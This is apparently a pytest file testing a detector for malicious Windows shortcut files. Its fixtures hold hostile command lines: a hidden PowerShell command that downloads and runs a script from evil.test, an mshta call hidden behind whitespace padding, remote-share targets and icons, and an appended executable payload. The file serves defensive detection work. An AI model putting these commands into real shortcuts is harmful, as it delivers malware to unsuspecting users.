"""Shortcuts of Windows."""

import random

import pytest

from files.scanners.made import ask, faults, shortcut, signs, urls
from unhook.files.model import Found
from unhook.files.scanners.lnk import SCANNER

pytest.importorskip("LnkParse3")
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def test_a_command_that_fetches() -> None:
    found = ask(
        SCANNER, shortcut(POWERSHELL, "-w hidden -c iwr https://evil.test/a.ps1 | iex", "C:\\a\\AcroRd32.exe")
    )
    told = signs(found)
    assert told["shortcut-command"] == f"{POWERSHELL} -w hidden -c iwr https://evil.test/a.ps1 | iex"
    assert told["shortcut-tool"] == "powershell"
    assert told["shortcut-disguised"] == "C:\\a\\AcroRd32.exe"
    assert told["shortcut-remote"] == "https://evil.test/a.ps1"
    assert told["script-hides"] == "-w hidden"
    assert told["script-runs"] == "| iex"
    assert urls(found) == ["https://evil.test/a.ps1"]
    fields = {each["key"]: each["value"] for each in found.record["exiftool"]["fields"]}
    assert fields["CommandLineArguments"] == "-w hidden -c iwr https://evil.test/a.ps1 | iex"
    assert fields["LocalBasePath"] == POWERSHELL
    assert fields["TargetFileSize"] == "0"


def test_a_target_on_a_share() -> None:
    found = ask(SCANNER, shortcut(share="\\\\evil.test@80\\dav\\run.exe"))
    assert signs(found) == {"shortcut-remote": "\\\\evil.test@80\\dav\\run.exe"}
    assert urls(found) == ["\\\\evil.test@80\\dav\\run.exe"]


def test_an_icon_on_a_share() -> None:
    found = ask(SCANNER, shortcut("C:\\a.txt", icon="\\\\203.0.113.5\\s\\i.ico"))
    assert [(each.url, each.how) for each in found.references] == [
        ("\\\\203.0.113.5\\s\\i.ico", "shortcut icon")
    ]


def test_what_the_environment_says_goes_first() -> None:
    found = ask(SCANNER, shortcut("C:\\harmless.txt", "/c calc", environment="%windir%\\system32\\cmd.exe"))
    assert signs(found)["shortcut-command"] == "%windir%\\system32\\cmd.exe /c calc"
    assert signs(found)["shortcut-tool"] == "cmd"


def test_padding_that_hides_the_command() -> None:
    found = ask(SCANNER, shortcut("C:\\Windows\\explorer.exe", " " * 300 + "/c mshta http://evil.test/"))
    assert signs(found)["shortcut-padded"] == "326 characters"
    assert signs(found)["shortcut-tool"] == "mshta"


def test_a_load_behind_the_shortcut() -> None:
    found = ask(SCANNER, shortcut("C:\\a.exe") + b"MZ hidden program, long enough")
    assert [each.data for each in found.children] == [b"MZ hidden program, long enough"]
    assert signs(found)["shortcut-data-after"] == "30 bytes"


def test_an_ordinary_shortcut() -> None:
    assert not ask(SCANNER, shortcut("C:\\Users\\ann\\letter.docx")).signs


def test_damage_is_told() -> None:
    assert faults(ask(SCANNER, shortcut("C:\\a.exe")[:30])) == ["damaged"]


def test_anything_is_read() -> None:
    whole = shortcut(POWERSHELL, "-c x", "a.ico", environment="%windir%")
    dice = random.Random(3)
    for _ in range(300):
        broken = bytearray(whole)
        for _ in range(3):
            broken[dice.randrange(20, len(broken))] = dice.randrange(256)
        assert isinstance(ask(SCANNER, bytes(broken)), Found)
